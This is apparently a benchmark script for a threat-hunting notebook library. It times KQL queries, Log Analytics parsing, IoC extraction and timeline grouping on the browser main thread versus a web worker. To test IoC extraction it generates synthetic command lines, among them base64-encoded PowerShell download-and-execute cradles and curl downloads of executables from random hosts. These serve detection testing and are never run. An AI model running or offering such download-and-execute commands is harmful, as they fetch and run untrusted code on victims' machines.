// Benchmark (issue #16, "never freeze the notebook"): the long calls on the page's main thread vs in
// `huntbook.worker()`, in one headless Chromium page, same run, same data (generated in the page):
//
//   KQL over 10^6 rows          `range` 10^6 rows | extend | summarize count(), dcount() by (LocalData.query)
//   ~100 MB Log Analytics JSON  a SigninLogs-shaped response → a table (readTables; to the worker with {transfer: true})
//   IoCs + unpacking, 10^5 rows extractIocsTable(CommandLine) then unpackTable(CommandLine)
//   timeline grouping, 10^6     new TimelineModel(df, {group_by, source_columns}) (the grouping step of timeline())
//
// For each: the median time on the main thread, the median time of the same call through the worker (request to
// answer, as the page sees it), and the ratio the goal is judged on (≤ 1.10× → met): the median of the runs' pairwise
// ratios, each the worker's time over the main thread's time next to it (runs in pairs, main first in one pair and
// the worker first in the next). Why pairs: this machine has slow spells of a few seconds in which the same call takes
// ~1.5× as long on either thread (and in Node alone; the threads' CPU time shows no other thread competing): over
// four runs of one build the ratio of the two sides' medians ranged 0.76–1.19×, the pairs' median 0.93–1.11×. Both
// are printed, with the pairs' quartiles. Also the longest main-thread task a PerformanceObserver('longtask') saw
// overlapping the worker runs (Chromium reports tasks over 50 ms; goal: none over 50 ms → met). Tables are made on both sides before timing and freed after each run. Nothing leaves loopback:
// every other request is aborted and counted.
//
// Env: WORKER_RUNS=15 (timed runs per side, in pairs), WORKER_RAW=1 (print every run's time), WORKER_WARM=2
// (untimed warm-up runs per side first: V8 tiers hot wasm functions up after some calls, in the page and in the
// worker alike).
import { launchChromium } from "../tests/e2e/browser.mjs";
import { startServer } from "../scripts/serve.mjs";

const RUNS = Number(process.env.WORKER_RUNS ?? 15);
const WARM = Number(process.env.WORKER_WARM ?? 2);
const server = await startServer({ port: 0 });
const base = `http://127.0.0.1:${server.address().port}`;
const browser = await launchChromium();
let offLoopback = 0;
const page = await browser.newPage();
await page.route("**/*", (route) => {
  const u = new URL(route.request().url());
  if (["127.0.0.1", "localhost"].includes(u.hostname) || u.protocol === "data:" || u.protocol === "blob:") return route.continue();
  offLoopback++;
  return route.abort();
});
const pageErrors = [];
page.on("pageerror", (e) => pageErrors.push(String(e)));
await page.goto(`${base}/e2e/blank.html`);

const results = await page.evaluate(async ([RUNS, WARM]) => {
  const hb = await import("/huntbook/index.js");
  await hb.init();
  const w = await hb.worker();
  const median = (xs) => [...xs].sort((a, b) => a - b)[xs.length >> 1];
  const rand = ((seed) => () => ((seed = (seed * 1103515245 + 12345) >>> 0) / 2 ** 32))(16);
  const pick = (xs) => xs[Math.floor(rand() * xs.length)];
  const idle = (ms) => new Promise((r) => setTimeout(r, ms));
  const out = [];

  /**
   * Times `main()` (sync) and `inWorker()` (async), `runs` each after a warm-up; each returns what to free, freed
   * after its timer stops. Long tasks are those a PerformanceObserver('longtask') reports overlapping a worker
   * run (not `prepare()`, the untimed set-up of a run, e.g. the copy of bytes that {transfer: true} then moves).
   */
  async function compare(name, main, inWorker, what, { prepare = () => {}, runs = RUNS } = {}) {
    const free = async (xs) => { for (const x of [xs].flat()) await x.free(); };
    for (let i = 0; i < WARM; i++) {
      await free(main());
      prepare();
      await free(await inWorker());
    }
    const entries = [];
    const obs = new PerformanceObserver((list) => { entries.push(...list.getEntries()); });
    obs.observe({ type: "longtask" });
    const mainMs = [];
    const workerMs = [];
    const windows = [];
    const mainWindows = [];
    // In pairs, main first in even pairs and the worker first in odd ones, so both sides see the same load on this
    // shared machine and neither always follows the other.
    const runMain = async () => {
      const t0 = performance.now();
      const made = main();
      const t1 = performance.now();
      mainWindows.push([t0, t1]);
      await free(made);
      await idle(20);
      return t1 - t0;
    };
    const runWorker = async () => {
      prepare();
      await idle(20);
      const t0 = performance.now();
      const made = await inWorker();
      const t1 = performance.now();
      windows.push([t0, t1]);
      await free(made);
      await idle(20);
      return t1 - t0;
    };
    for (let i = 0; i < runs; i++) {
      let m;
      let w;
      if (i % 2 === 0) {
        m = await runMain();
        w = await runWorker();
      } else {
        w = await runWorker();
        m = await runMain();
      }
      mainMs.push(m);
      workerMs.push(w);
    }
    await idle(200); // long-task entries arrive after their task
    obs.disconnect();
    // A long task counts for a window when it overlaps it (the task that runs main() starts before its timer).
    const within = (ws) => entries.filter((e) => ws.some(([a, b]) => e.startTime < b && e.startTime + e.duration > a)).map((e) => e.duration);
    const tasks = within(windows);
    const mainTasks = within(mainWindows);
    const pairs = mainMs.map((m, i) => workerMs[i] / m).sort((a, b) => a - b);
    out.push({ name, what, runs, main: median(mainMs), worker: median(workerMs), ratio: median(pairs), raw: [mainMs, workerMs].map((xs) => xs.map((x) => Math.round(x)).join(" ")),
      q1: pairs[Math.floor((pairs.length - 1) / 4)], q3: pairs[Math.ceil((3 * (pairs.length - 1)) / 4)], longTasks: tasks.length, longest: tasks.length ? Math.max(...tasks) : 0,
      mainLongest: mainTasks.length ? Math.max(...mainTasks) : 0 });
  }

  // ---- KQL over 10^6 rows ----
  const kql = "range x from 1 to 1000000 step 1 | extend k = x % 1000, u = strcat('user', x % 5000) " +
    "| summarize n = count(), d = dcount(u) by k";
  const local = new hb.LocalData();
  const wlocal = await w.localData();
  await compare("KQL over 10^6 rows", () => local.query(kql), () => wlocal.query(kql),
    "range | extend | summarize count(), dcount() by");

  // ---- ~100 MB Log Analytics response ----
  const users = Array.from({ length: 2000 }, (_, i) => `user${i}@contoso.com`);
  const apps = ["Azure Portal", "Office 365 Exchange Online", "Microsoft Teams", "Azure CLI", "SharePoint Online"];
  const cities = ["Seattle", "London", "Paris", "Tokyo", "Sydney", "Berlin", "Toronto"];
  const cols = [["TimeGenerated", "datetime"], ["UserPrincipalName", "string"], ["IPAddress", "string"], ["ResultType", "string"],
    ["ResultDescription", "string"], ["AppDisplayName", "string"], ["ClientAppUsed", "string"], ["UserAgent", "string"],
    ["LocationDetails", "dynamic"], ["DeviceDetail", "dynamic"], ["CorrelationId", "guid"], ["IsInteractive", "bool"],
    ["ProcessingTimeInMilliseconds", "long"], ["RiskScore", "real"], ["Latitude", "real"], ["Category", "string"],
    ["OperationName", "string"], ["Resource", "string"], ["Type", "string"], ["TenantId", "string"]];
  const hex = (n) => Array.from({ length: n }, () => Math.floor(rand() * 16).toString(16)).join("");
  const t0ms = Date.UTC(2026, 9, 1);
  const parts = [];
  let size = 0;
  let laRows = 0;
  while (size < 100e6) {
    const city = pick(cities);
    const row = [new Date(t0ms + Math.floor(rand() * 30 * 86400e3)).toISOString(), pick(users),
      `${10 + Math.floor(rand() * 200)}.${Math.floor(rand() * 256)}.${Math.floor(rand() * 256)}.${Math.floor(rand() * 256)}`,
      pick(["0", "0", "0", "50126", "50074"]), pick(["", "Invalid username or password", "Strong authentication is required"]),
      pick(apps), pick(["Browser", "Mobile Apps and Desktop clients"]),
      `Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/${100 + Math.floor(rand() * 30)}.0`,
      JSON.stringify({ city, countryOrRegion: "XX", geoCoordinates: { latitude: rand() * 90, longitude: rand() * 180 } }),
      JSON.stringify({ operatingSystem: pick(["Windows 10", "MacOs", "Ios"]), browser: pick(["Edge", "Chrome"]), isCompliant: rand() < 0.5 }),
      `${hex(8)}-${hex(4)}-${hex(4)}-${hex(4)}-${hex(12)}`, rand() < 0.7, Math.floor(rand() * 500), rand(), rand() * 90,
      "SignInLogs", "Sign-in activity", "Microsoft.aadiam", "SigninLogs", "72f988bf-86f1-41af-91ab-2d7cd011db47"];
    const text = JSON.stringify(row);
    parts.push(text);
    size += text.length + 1;
    laRows++;
  }
  const laText = `{"tables":[{"name":"PrimaryResult","columns":${JSON.stringify(cols.map(([name, type]) => ({ name, type })))},"rows":[${parts.join(",")}]}]}`;
  parts.length = 0;
  const laBytes = new TextEncoder().encode(laText);
  let copy = null;
  await compare(`Log Analytics JSON, ${(laBytes.length / 1e6).toFixed(0)} MB`,
    () => hb.readTables(laBytes).tables,
    async () => (await w.readTables(copy, { transfer: true })).tables,
    `${laRows.toLocaleString("en-US")} rows × 20 columns; to the worker with {transfer: true}`,
    { prepare: () => { copy = laBytes.slice(); } });

  // ---- IoC extraction + base64 unpacking over 10^5 rows ----
  const cmds = [];
  for (let i = 0; i < 1e5; i++) {
    const ip = `${Math.floor(rand() * 223) + 1}.${Math.floor(rand() * 256)}.${Math.floor(rand() * 256)}.${Math.floor(rand() * 256)}`;
    const k = i % 4;
    cmds.push(k === 0 ? `powershell -nop -enc ${btoa(`IEX (New-Object Net.WebClient).DownloadString('http://${ip}/s${i}.ps1')`)}`
      : k === 1 ? `cmd.exe /c curl http://files${i % 97}.example.net/a${i}.exe -o C:\\Temp\\a${i}.exe`
      : k === 2 ? `ping -n 1 ${ip}` : `notepad.exe C:\\Users\\u${i % 50}\\notes.txt`);
  }
  const csv = "CommandLine\n" + cmds.map((c) => `"${c.replaceAll('"', '""')}"`).join("\n");
  const cmdDf = hb.readTables(csv, { format: "csv", name: "Processes" }).tables[0];
  const wCmd = (await w.readTables(csv, { format: "csv", name: "Processes" })).tables[0];
  await compare("IoCs + unpacking, 10^5 rows",
    () => [hb.extractIocsTable(cmdDf, ["CommandLine"]), hb.unpackTable(cmdDf, "CommandLine")],
    async () => [await w.extractIocsTable(wCmd, ["CommandLine"]), await w.unpackTable(wCmd, "CommandLine")],
    "extractIocsTable then unpackTable over CommandLine");

  // ---- timeline grouping of 10^6 events ----
  const results = ["Success", "Failure", "MFA", "Blocked", "Interrupted", "Expired", "Risky", "Unknown", "Locked", "Disabled", "Guest", "Other"];
  const lines = ["TimeGenerated,Result,UserPrincipalName,IPAddress"];
  for (let i = 0; i < 1e6; i++) {
    lines.push(`${new Date(t0ms + Math.floor(rand() * 30 * 86400e3)).toISOString()},${pick(results)},${pick(users)},10.${i % 256}.${(i >> 8) % 256}.${i % 200}`);
  }
  const tlCsv = lines.join("\n");
  lines.length = 0;
  const tlDf = hb.readTables(tlCsv, { format: "csv", name: "Signins" }).tables[0];
  const wTl = (await w.readTables(tlCsv, { format: "csv", name: "Signins" })).tables[0];
  const opts = { group_by: "Result", source_columns: ["UserPrincipalName", "IPAddress"] };
  await compare("timeline grouping, 10^6 events",
    () => new hb.TimelineModel(tlDf, opts),
    () => w.timelineModel(wTl, opts),
    "TimelineModel(df, {group_by: Result, source_columns}), 12 groups", { runs: Math.max(RUNS, 9) });
  w.terminate();
  return out;
}, [RUNS, WARM]);

const version = browser.version();
await browser.close();
await new Promise((r) => server.close(r));

const fmt = (ms) => (ms < 1000 ? `${ms.toFixed(1)} ms` : `${(ms / 1000).toFixed(2)} s`);
console.log(`\nhuntbook.worker() vs the main thread (headless Chromium ${version}), ${RUNS} runs a side in pairs (timeline: ${Math.max(RUNS, 9)}) after ${WARM} warm-up runs`);
console.log(`  ${"call".padEnd(34)} ${"main".padStart(9)} ${"worker".padStart(9)}  ratio  ≤1.10×    longest main-thread task in worker runs  ≤50 ms`);
for (const r of results) {
  const longest = r.longTasks ? `${r.longest.toFixed(0)} ms (${r.longTasks} long task${r.longTasks > 1 ? "s" : ""})` : "none over 50 ms";
  console.log(`  ${r.name.padEnd(34)} ${fmt(r.main).padStart(9)} ${fmt(r.worker).padStart(9)}  ${r.ratio.toFixed(2)}×  ${(r.ratio <= 1.1 ? "met" : "NOT met").padEnd(7)}   ${longest.padEnd(40)} ${r.longTasks === 0 || r.longest <= 50 ? "met" : "NOT met"}`);
  if (process.env.WORKER_RAW) console.log(`    main: ${r.raw[0]}\n    worker: ${r.raw[1]}`);
  console.log(`    (${r.what}; times are each side's median, the ratio the median of the pairs' ratios (quartiles ${r.q1.toFixed(2)}–${r.q3.toFixed(2)}; the medians' ratio ${(r.worker / r.main).toFixed(2)}×); the longest task of the main-thread runs, as the observer saw it: ${r.mainLongest ? `${r.mainLongest.toFixed(0)} ms` : "none over 50 ms"})`);
}
if (offLoopback) console.log(`  requests off loopback (aborted): ${offLoopback}`);
if (pageErrors.length) console.log(`  page errors: ${pageErrors.join("; ")}`);
